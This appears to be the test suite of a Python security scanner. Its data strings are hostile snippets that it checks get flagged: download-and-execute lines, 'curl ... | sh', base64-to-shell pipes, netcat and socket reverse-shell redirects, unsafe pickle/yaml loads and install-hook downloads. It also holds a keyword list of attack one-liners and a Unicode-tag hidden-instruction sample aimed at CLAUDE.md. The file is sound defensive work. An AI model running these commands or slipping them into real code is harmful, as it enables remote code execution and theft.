"""Code that is hidden, fetched or sent and then run, under its many forms."""

from __future__ import annotations

import base64
import time
import tracemalloc
import zlib
from typing import TYPE_CHECKING

import pytest

from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.policy import load
from pytest_selfmod_guard.rules import all_rules
from pytest_selfmod_guard.rules.danger import _disguises, _unicode
from pytest_selfmod_guard.rules.danger._attacks import WORDS, attacks
from pytest_selfmod_guard.rules.danger._foreign import ASKED, HIDDEN, LINK, NETWORK, REQUEST, kinds
from pytest_selfmod_guard.rules.danger._segments import Lines, inside, segments
from pytest_selfmod_guard.rules.danger._unpacking import hidden_code
from pytest_selfmod_guard.stages.detect import detect

if TYPE_CHECKING:
    from tests.rules.conftest import Ask, ChangeOf

FETCH = "from urllib.request import urlopen\n"

BY_FIELD = f"""
import os
{FETCH}
class A:
    def get(self):
        with open(self.path, "wb") as f:
            f.write(urlopen(x).read())
    def go(self):
        os.execl(self.path, self.path)
"""

PORT = """
import socket, subprocess, sys
link = socket.socket()
port = str(link.getsockname()[1])
subprocess.run([sys.executable, {after}])
"""
BY_NAME = f"""
import os
{FETCH}
def f(path, link):
    with open(path, "wb") as file:
        file.write(urlopen(link).read())
    os.execl(path, path)
"""
SERVER = """
import socketserver, subprocess
class H(socketserver.BaseRequestHandler):
    def handle(self, data):
        self.request.sendall(subprocess.check_output({line}))
"""

DENIED = [
    ("SMG209", BY_NAME),
    ("SMG209", PORT.format(after="'-W', 'ignore', '-c', link.recv(9)")),
    ("SMG209", PORT.format(after="link.recv(9).decode()")),
    ("SMG210", SERVER.format(line="data.split()")),
    ("SMG208", "import base64, os\nos.execvp('python', ['python', '-c', base64.b64decode(x)])"),
    ("SMG208", "import marshal\nf = marshal.loads(x)\nexec(f)"),
    ("SMG208", "import zlib, subprocess as s\nfor a in zlib.decompress(x).split():\n    s.call(a)"),
    ("SMG208", "import gzip, code\ncode.InteractiveInterpreter().runsource(gzip.decompress(x))"),
    ("SMG209", FETCH + "eval(urlopen(x).read())"),
    ("SMG209", FETCH + "import runpy\nopen('a', 'wb').write(urlopen(x))\nrunpy.run_path('a')"),
    ("SMG209", FETCH + "import os\nf = open('t', 'w')\nf.write(urlopen(x))\nos.chmod('t', 0o700)"),
    ("SMG209", "import wget, os\nwget.download(x, 'a.exe')\nos.startfile('a.exe')"),
    ("SMG209", "from flask import request\nimport subprocess\nsubprocess.run(request.args['go'])"),
    ("SMG209", BY_FIELD),
    ("SMG210", "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)"),
    ("SMG210", "import socket, subprocess\ns = socket.socket()\nsubprocess.run(['ls'], stdout=s)"),
    ("SMG211", "import ctypes\nctypes.pythonapi.PyRun_SimpleString(x)"),
    ("SMG211", "import subprocess, sys\nsubprocess.run([sys.executable, '-c', input()])"),
    ("SMG209", ("import os, win32api\nfrom urllib.request import urlretrieve\n"
     "urlretrieve(x, 'run.exe')\nwin32api.ShellExecute(0, 'open', 'run.exe')")),
    ("SMG209", ("import os\nfrom urllib.request import urlretrieve\n"
     "urlretrieve(x, 'run.exe')\nos.spawnl(os.P_NOWAIT, 'run.exe')")),
    ("SMG209", "import base64, os\nopen('r', 'w').write(base64.b64decode(x))\nos.execl('r', 'r')"),
    ("SMG209", "import httpx\nclass L:\n    def get_source(self, n):\n        return httpx.get(n)"),
    ("SMG209", "import subprocess\ndef f(request):\n    subprocess.run(request.param)"),
    ("SMG208", "import os\nos.startfile(''.join(chr(c ^ 1) for c in x))"),
    ("SMG211", "import sys, tempfile\nsys.path.insert(0, tempfile.mkdtemp())"),
    ("SMG212", "import yaml\nyaml.unsafe_load('!!python/object/apply:os.system [id]')"),
    ("SMG213", "import os\nfor n in dir(os):\n    getattr(os, n)('id')"),
    ("SMG213", "().__class__.__base__.__subclasses__()[1]('id')"),
    ("SMG214", "import ctypes\nctypes.CDLL(None).system(b'id')"),
    ("SMG211", "import runpy, tempfile\npath = tempfile.mkdtemp() + '/a.py'\nrunpy.run_path(path)"),
    ("SMG212", "import pickle, socket\npickle.loads(socket.socket().recv(9))"),
    ("SMG212", "import pickle, socket\npickle.loads(socket.socket().recv(9) + pickle.dumps(x))"),
    ("SMG212", "import yaml\nyaml.load(input(), Loader=yaml.SafeLoader if x else yaml.Loader)"),
    ("SMG212", "import base64, pickle\npickle.loads(base64.b64decode('gAS='))"),
    ("SMG212", "import yaml\nyaml.load(input(), Loader=yaml.FullLoader)"),
    ("SMG212", "import os\nclass A:\n    def __reduce_ex__(self, p):\n        return os.popen, 1"),
    ("SMG213", "__import__('so'[::-1])"),
    ("SMG213", "import os\ngetattr(os, 'sys' 'tem'.upper().lower())"),
    ("SMG213", "import base64, importlib\nimportlib.import_module(base64.b64decode(x).decode())"),
    ("SMG214", "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 0x40)"),
    ("SMG214", "import ctypes\nl = ctypes.CDLL(None)\nl.mprotect(a, 9, 7)\nl.ptrace(0)"),
    ("SMG214", "import ctypes, base64\nctypes.CDLL(base64.b64decode(x).decode())"),
    ("SMG215", "lIlIlI = 1\nIlIlIl = 2\nllIIll = 3\nIIllII = 4"),
    ("SMG215", "(lambda: (lambda: (lambda: 1)())())()"),
    ("SMG215", "import pytransform"),
    ("SMG215", "x = bytes([105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115])"),
    ("SMG216", "# \u202e turned\nx = 1"),
    ("SMG216", "\uff45\uff56\uff41\uff4c(x)"),
    ("SMG216", "x = '" + "\u200b\u200c" * 8 + "'"),
    ("SMG216", "size = 1\n\u0455\u0456z\u0435 = 2"),
    ("SMG219", "import os\nos.system('cur' + 'l http://a.invalid/x | sh')"),
    ("SMG219", "import subprocess\nsubprocess.run(f'powershell -enc {x}')"),
    ("SMG219", "X = 'import base64;exec(base64.b64decode(b))'"),
    ("SMG204", "import os\nos.spawnl(os.P_WAIT, '/bin/bash', '/bin/bash', '-c', x)"),
    ("SMG204", "import subprocess\nline = ['cmd', '/c', x]\nsubprocess.run(line)"),
    ("SMG204", "import os\nos.popen3(x)"),
    ("SMG204", "import subprocess\nsubprocess.run(['powershell', '-Command', x])"),
    ("SMG204", "import subprocess\nsubprocess.run(['cmd', '/c', 'start', 'a.bat'])"),
]  # fmt: skip

SILENT = [
    ("SMG208", "import base64, subprocess\nsubprocess.run(['mail', base64.b64decode(x)])"),
    ("SMG208", "import zlib, json\njson.loads(zlib.decompress(x))"),
    ("SMG209", FETCH + "import os\nopen('t', 'wb').write(urlopen(x).read())\nos.chmod('t', 0o644)"),
    ("SMG209", FETCH + "import subprocess\nopen('a.zip', 'wb').write(urlopen(x).read())\n"
     "subprocess.run(['unzip', 'a.zip'])"),
    ("SMG209", FETCH + "import os\nopen('a', 'wb').write(urlopen(x).read())\nos.execl('b', 'b')"),
    ("SMG210", "import socket, subprocess\ns = socket.socket()\nsubprocess.run(['ls'], stdout=-1)"),
    ("SMG211", "import timeit\ntimeit.timeit(lambda: x)"),
    ("SMG211", "import subprocess, sys\nsubprocess.run([sys.executable, '-m', x])"),
    ("SMG211", "stack.push(x)"),
    ("SMG211", "import sys\nsys.path.insert(0, 'src')"),
    ("SMG209", ("from urllib.request import urlretrieve\nimport os\nd = os.getcwd()\n"
     "urlretrieve(x, d + '/rates.csv')\nos.execl(d + '/other', 'other')")),
    ("SMG210", ("import socketserver, subprocess\nclass H(socketserver.BaseRequestHandler):\n"
     "    def handle(self):\n        subprocess.run(['uptime', self.line])")),
    ("SMG213", "import os\ngetattr(os, 'O_BINARY', 0)\nA.__subclasses__()"),
    ("SMG214", "import platform\nplatform.system()\nx.system(1)"),
    ("SMG212", "import pickle\npickle.dumps(x)"),
    ("SMG212", "import pickle\npickle.loads(pickle.dumps(x))"),
    ("SMG213", "import socket\ngetattr(x, socket.socket().recv(9).decode())"),
    ("SMG212", "import yaml\nyaml.load(x, Loader=yaml.SafeLoader)\nyaml.load(x, yaml.CSafeLoader)"),
    ("SMG212", "class A:\n    def __reduce__(self):\n        return A, (self.x,)"),
    ("SMG213", "import importlib\nimportlib.import_module('shop.' + x)"),
    ("SMG213", "PART = 'total'\ngetattr(x, PART + '_net')\ngetattr(x, request.method)"),
    ("SMG214", "import ctypes\nctypes.CDLL('libc.so.6').getpid()"),
    ("SMG214", "import ctypes\nctypes.CDLL(None).mprotect(a, 9, 1)"),
    ("SMG215", "silly = ill = lilly = illi = 1\nx = '\\x1b[0m' + '\\x1b[31m'"),
    ("SMG215", "x = 1" + " " * 79 + "; y = 2"),
    ("SMG215", "x = 1" + " " * 200 + "# a note"),
    ("SMG215", "x = '" + " " * 200 + "a'"),
    ("SMG216", "x = '\u2067\u05d0\u2069 \U0001f469\u200d\U0001f467 \ufeff'"),
    ("SMG216", "\u0394x, \u03bb = 1, 2\n\u0441\u043b\u043e\u0432\u043e = 3"),
    ("SMG219", "def f():\n    'Like curl x | sh.'"),
    ("SMG219", "import subprocess\nsubprocess.run(['curl', '-o', 'a', x])"),
    ("SMG204", "import subprocess\nsubprocess.run(['git', '-c', 'a=b', 'log'])"),
    ("SMG204", "import subprocess\nsubprocess.run(['powershell', '-Command', 'Get-Date'])"),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "code"), DENIED)
def test_what_runs_the_foreign_is_denied(ask: Ask, rule: str, code: str) -> None:
    """At a risk that denies."""
    found = ask(rule, {}, {"shop/tool.py": f"x = open('x').read()\n{code}\n"})
    assert max((item.risk for item in found), default=Risk.NONE) >= Risk.HIGH


SILENT += [
    ("SMG209", PORT.format(after="'-m', 'shop', '--port', port")),
    ("SMG209", PORT.format(after="'-X', 'dev', 'run.py', link.recv(9)")),
    ("SMG209", "import pytest, subprocess\ndef f(request):\n    subprocess.run(request.param)"),
    ("SMG210", SERVER.format(line="['uptime']")),
    ("SMG210", SERVER.format(line="['uptime', self.line]")),
]


@pytest.mark.parametrize(("rule", "code"), SILENT)
def test_the_innocent_neighbour_does_not_deny(ask: Ask, rule: str, code: str) -> None:
    """A warning at most."""
    found = ask(rule, {}, {"shop/tool.py": f"x = open('x').read()\n{code}\n"})
    assert max((item.risk for item in found), default=Risk.NONE) < Risk.MEDIUM or (
        rule == "SMG216" and max(item.risk for item in found) == Risk.MEDIUM
    )


COMMAND = """
import subprocess
from setuptools.command.install import install
class I({base}):
    def run(self):
        subprocess.run(["curl", "x"])
"""

INSTALLS = [
    ("setup.py", "import subprocess\nsubprocess.run(['wget', 'x'])", Risk.HIGH),
    ("setup.py", "import subprocess\nsubprocess.run(['./prepare'])", Risk.MEDIUM),
    ("setup.py", "import subprocess\nsubprocess.run(['git', 'log'])", Risk.NONE),
    ("setup.py", "import subprocess\nsubprocess.Popen(['gcc'], startupinfo=x)", Risk.HIGH),
    ("setup.py", "def go():\n    import httpx\n    httpx.get('x')", Risk.HIGH),
    ("shop/__init__.py", "import requests\nrequests.get('x')", Risk.HIGH),
    ("shop/__init__.py", "import requests\ndef go():\n    requests.get('x')", Risk.NONE),
    ("shop/__init__.py", "import requests\ndef go():\n    requests.get('x')\ngo()", Risk.HIGH),
    ("shop/__init__.py", "import requests\ndef a():\n    b()\ndef b():\n    requests.get('x')\na()",
     Risk.HIGH),
    ("shop/__init__.py", "import requests\nif __name__ == '__main__':\n    requests.get('x')",
     Risk.NONE),
    ("shop/rates.py", "import requests\nrequests.get('x')", Risk.NONE),
    ("tests/__init__.py", "import requests\nrequests.get('x')", Risk.NONE),
    ("shop/build.py", COMMAND.format(base="install"), Risk.HIGH),
    ("shop/build.py", COMMAND.format(base="object"), Risk.NONE),
    ("back/end.py", "import subprocess\ndef build_wheel(*a):\n    subprocess.run(['curl', 'x'])",
     Risk.HIGH),
]  # fmt: skip


@pytest.mark.parametrize(("path", "code", "risk"), INSTALLS)
def test_what_runs_by_itself_is_told_from_what_is_called(
    ask: Ask, path: str, code: str, risk: Risk
) -> None:
    """In builds, packages and install commands, and nowhere else."""
    found = ask("SMG218", {}, {path: f"{code}\n"})
    assert max((item.risk for item in found), default=Risk.NONE) == risk


TEXTS = [
    ("SMG217", "requirements.txt", "r\u0435quests\n", Risk.HIGH),
    ("SMG217", "notes.md", "r\u0435quests\n", Risk.NONE),
    ("SMG217", "run.sh", "echo \u202e\n", Risk.HIGH),
    ("SMG217", "notes.md", "shalom \u202e\n", Risk.NONE),
    ("SMG217", "CLAUDE.md", "Be kind" + "".join(map(chr, range(0xE0061, 0xE0069))), Risk.HIGH),
    ("SMG217", "tests/data.yml", "a: \u202e\n", Risk.MEDIUM),
    ("SMG260", "run.sh", "echo x | base64 -d | sh\n", Risk.CRITICAL),
    ("SMG260", "run.sh", "# echo x | base64 -d | sh\n", Risk.NONE),
    ("SMG260", "notes.md", "echo x | base64 -d | sh\n", Risk.NONE),
    ("SMG260", "ci.yml", "run: nc -lvp 99 -e /bin/bash\n", Risk.CRITICAL),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "path", "text", "risk"), TEXTS)
def test_scripts_and_settings_are_read_too(
    ask: Ask, rule: str, path: str, text: str, risk: Risk
) -> None:
    """By what acts on them; prose is for people."""
    found = ask(rule, {}, {path: text})
    assert max((item.risk for item in found), default=Risk.NONE) == risk


@pytest.mark.parametrize(
    ("rule", "code"),
    [
        ("SMG212", "import pickle, socket\npickle.loads(socket.socket().recv(9))"),
        ("SMG215", "import pytransform"),
        ("SMG216", "# \u202e turned\nx = 1"),
        ("SMG219", "import os\nos.system('curl x | sh')"),
        ("SMG213", "__import__('so'[::-1])"),
        ("SMG211", "import ctypes\nctypes.pythonapi.PyRun_SimpleString(x)"),
    ],
)
def test_in_a_test_it_is_a_warning(ask: Ask, rule: str, code: str) -> None:
    """Who tests a scanner needs something to scan."""
    found = ask(rule, {}, {"tests/test_tool.py": f"{code}\n"})
    assert [item.risk for item in found] == [Risk.MEDIUM]


def test_a_checked_hash_makes_a_download_a_warning(ask: Ask) -> None:
    """Only in the function that fetches it."""
    fetch = "    open('a', 'wb').write(urlopen(x).read())\n"
    run = "    subprocess.run(['./a'])\n"
    start = "import hashlib, subprocess\n" + FETCH
    inside = f"{start}def f(x):\n{fetch}    hashlib.sha256(x)\n{run}"
    outside = f"{start}def g(x):\n    hashlib.sha256(x)\ndef f(x):\n{fetch}{run}"
    assert [item.risk for item in ask("SMG209", {}, {"a.py": inside})] == [Risk.MEDIUM]
    assert [item.risk for item in ask("SMG209", {}, {"a.py": outside})] == [Risk.CRITICAL]


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("base64.b64decode", HIDDEN), ("builtins.bytes.fromhex", HIDDEN), ("*.decrypt", HIDDEN),
        ("builtins.chr", HIDDEN), ("requests.get", NETWORK), ("socket", LINK),
        ("*.recv", NETWORK), ("urllib.request.urlopen", NETWORK), ("flask.request.args", REQUEST),
        ("param:view.request", REQUEST), ("os.environ.get", ASKED), ("builtins.input", ASKED),
    ],
)  # fmt: skip
def test_origins_are_known_by_kind(name: str, kind: str) -> None:
    """Each by itself."""
    assert kinds([name]) == {kind}


@pytest.mark.parametrize(
    "name",
    ["requests.exceptions.HTTPError", "urllib.request.quote", "requests", "*.decode",
     "os.path.join", "param:load.path", "param:parse.requirement"],
)  # fmt: skip
def test_other_origins_are_of_no_kind(name: str) -> None:
    """What reads like the network and is not."""
    assert kinds([name]) == frozenset()


def test_constants_are_decoded_layer_by_layer() -> None:
    """Whatever the order, and backwards too."""
    code = b"import os\nos.system('id')\n" + b"#" * 40
    once = base64.b64encode(code).decode()
    assert hidden_code(once).startswith("import os")
    assert hidden_code(once[::-1]).startswith("import os")
    assert hidden_code(base64.b64encode(zlib.compress(code)).decode()).startswith("import os")
    assert hidden_code(base64.b64encode(once.encode()).decode()).startswith("import os")
    assert hidden_code(code.hex()).startswith("import os")
    assert hidden_code(base64.b85encode(code).decode()).startswith("import os")
    assert hidden_code(base64.b64encode(b"just a note to the reader").decode()) == ""


def test_a_bomb_is_not_inflated() -> None:
    """What decompresses to a gigabyte costs no more than what is looked at."""
    packed = zlib.compress(b"#" * 200_000 + b"\nimport os\n" + b"#" * 20_000_000)
    tracemalloc.start()
    assert hidden_code(base64.b64encode(packed).decode()) == ""
    assert tracemalloc.get_traced_memory()[1] < 5_000_000
    tracemalloc.stop()


def test_every_attack_can_pass_the_gate() -> None:
    """A word of each pattern's own is among the words that wake the rule."""
    told = ["powershell -enc AAAABBBBCCCCDDDD", "iex (irm x)", "iwr x; start y",
            "certutil -decode a b", "powershell -w hidden https:", "bitsadmin /transfer a",
            "mshta http://a", "regsvr32 /i:http://a", "msiexec /i https://a",
            "curl a | sh", "sh <(wget a)", "wget a && chmod +x a", "base64 -d a | sh", "rev a | sh",
            "/dev/tcp/a/1", "nc a 1 -e sh", "mkfifo a | nc b", "socat a exec:b", "exec(urlopen(a))",
            "new-object net.sockets.tcpclient", "stratum+tcp://a", "Add-MpPreference -Exclusion a",
            "vssadmin delete", "wevtutil cl a", "netsh firewall off",
            "set __COMPAT_LAYER=RunAsInvoker", "xmrig -o pool"]  # fmt: skip
    for text in told:
        assert attacks(text), text
        assert any(word in text.lower().encode() for word in WORDS), text


@pytest.mark.parametrize(
    "unit", ["curl a | ", "powershell -w hidden ", "exec(", "base64 -d ", "nc -e "]
)
def test_no_text_is_worth_much_time(unit: str) -> None:
    """Every repetition is bounded."""
    began = time.perf_counter()
    attacks(unit * 5_000)
    assert time.perf_counter() - began < 10


def test_segments_keep_strings_and_comments_apart() -> None:
    """A quote in a comment opens nothing, a hash in a string neither."""
    text = "x = 'a # b'  # it's\ny = '''c\n\"d'''"
    assert [(s.kind, s.text) for s in segments(text)] == [
        ("word", "x"), ("string", "'a # b'"), ("comment", "# it's"),
        ("word", "y"), ("string", "'''c\n\"d'''"),
    ]  # fmt: skip
    assert inside("rb'''ab'''") == "ab"
    assert inside("'a") == "a"
    assert [Lines("a\nb\nc").at(place) for place in (0, 1, 2, 4)] == [1, 1, 2, 3]


def test_readable_escapes_are_told_from_binary() -> None:
    """By what they spell."""
    assert _disguises.escaped(r"'\x65\x78\x61\x6d\x70\x6c\x65\x2e\x61\x62'") == "example.ab"
    assert not _disguises.escaped(r"b'\x89\x50\x4e\x47\x0d\x0a\x1a\x0a\x00\x00\x00'")
    assert not _disguises.escaped(
        r"'\x65\x78' and a long plain text beside it that anybody can read'"
    )


def test_changes_of_direction_must_end() -> None:
    """In their own text."""
    assert _unicode.is_balanced("a \u2067b\u2069 c \u202bd\u202c")
    assert not _unicode.is_balanced("a \u2067b")
    assert not _unicode.is_balanced("a \u202bb\u2069")


def test_a_call_over_several_lines_is_said_once(ask: Ask) -> None:
    """Bandit points at the argument, ours at the call: one finding is enough."""
    code = "import subprocess\nsubprocess.run(\n    x,\n    shell=True,\n)\n"
    assert [item.line for item in ask("SMG290", {}, {"a.py": code}) if item.rule == "B602"] == [2]


def test_a_warning_does_not_hide_a_denial(change_of: ChangeOf) -> None:
    """Of two rules that see the same line, the better one may only replace what is not worse."""
    code = (
        "import hashlib, os\nfrom urllib.request import urlopen\ndef f(x):\n    hashlib.sha256(x)\n"
        "    open('tool', 'wb').write(urlopen(x).read())\n    os.system('./tool ' + x)\n"
    )
    change = change_of({}, {"shop/tool.py": code})
    rules = tuple(rule for rule in all_rules() if rule.id in ("SMG204", "SMG209"))
    found = detect(change, load(change.base), rules).findings
    assert {(item.rule, item.risk) for item in found} == {
        ("SMG204", Risk.HIGH),
        ("SMG209", Risk.MEDIUM),
    }


BUILDS = [
    ("setup.py", "exec(open('shop/version.py').read())", Risk.MEDIUM),
    ("setup.py", "exec(compile(open('shop/version.py').read(), 'v', 'exec'))", Risk.MEDIUM),
    (
        "setup.py",
        "import pathlib as p\nexec((p.Path('a') / 'v.py').read_text())",
        Risk.MEDIUM,
    ),
    ("setup.py", "exec(open('shop/version.txt').read())", Risk.HIGH),
    ("setup.py", "exec(open('/tmp/version.py').read())", Risk.HIGH),
    ("setup.py", "exec(open('../version.py').read())", Risk.HIGH),
    ("setup.py", "import os\nexec(open(os.environ['A'] + 'version.py').read())", Risk.HIGH),
    ("setup.py", "exec('import version.py')", Risk.HIGH),
    ("shop/cart.py", "exec(open('shop/version.py').read())", Risk.HIGH),
]


@pytest.mark.parametrize(("path", "code", "risk"), BUILDS)
def test_a_build_may_run_a_module_of_the_project(
    ask: Ask, path: str, code: str, risk: Risk
) -> None:
    """A warning, because that module is judged by itself; anything else denies."""
    assert [item.risk for item in ask("SMG201", {}, {path: f"{code}\n"})] == [risk]


def test_a_shell_in_a_shell_is_said_once(ask: Ask) -> None:
    """By its name and by shell=True it is the same call."""
    code = "import subprocess\nsubprocess.run(['sh', '-c', x], shell=True)\n"
    assert len(ask("SMG204", {}, {"a.py": code})) == 1


@pytest.mark.parametrize(
    ("command", "is_run"),
    [
        ("black {path}", False),
        ("git add {path}", False),
        ("git add {path}; sh {path}", True),
        ("{path}", True),
        ("sh {path}", True),
        ("python {path}", True),
    ],
)
def test_a_program_that_takes_a_file_for_data_does_not_run_it(
    ask: Ask,
    command: str,
    is_run: bool,  # noqa: FBT001 (a parameter of a test)
) -> None:
    """A formatter reads what was written; a shell runs it."""
    code = (
        "import base64, subprocess\n\ndef f(text, path):\n    with open(path, 'wb') as file:\n"
        "        file.write(base64.b64decode(text))\n"
        f"    subprocess.run(f'{command}', shell=True)\n"
    )
    assert bool(ask("SMG209", {}, {"shop/a.py": code})) is is_run
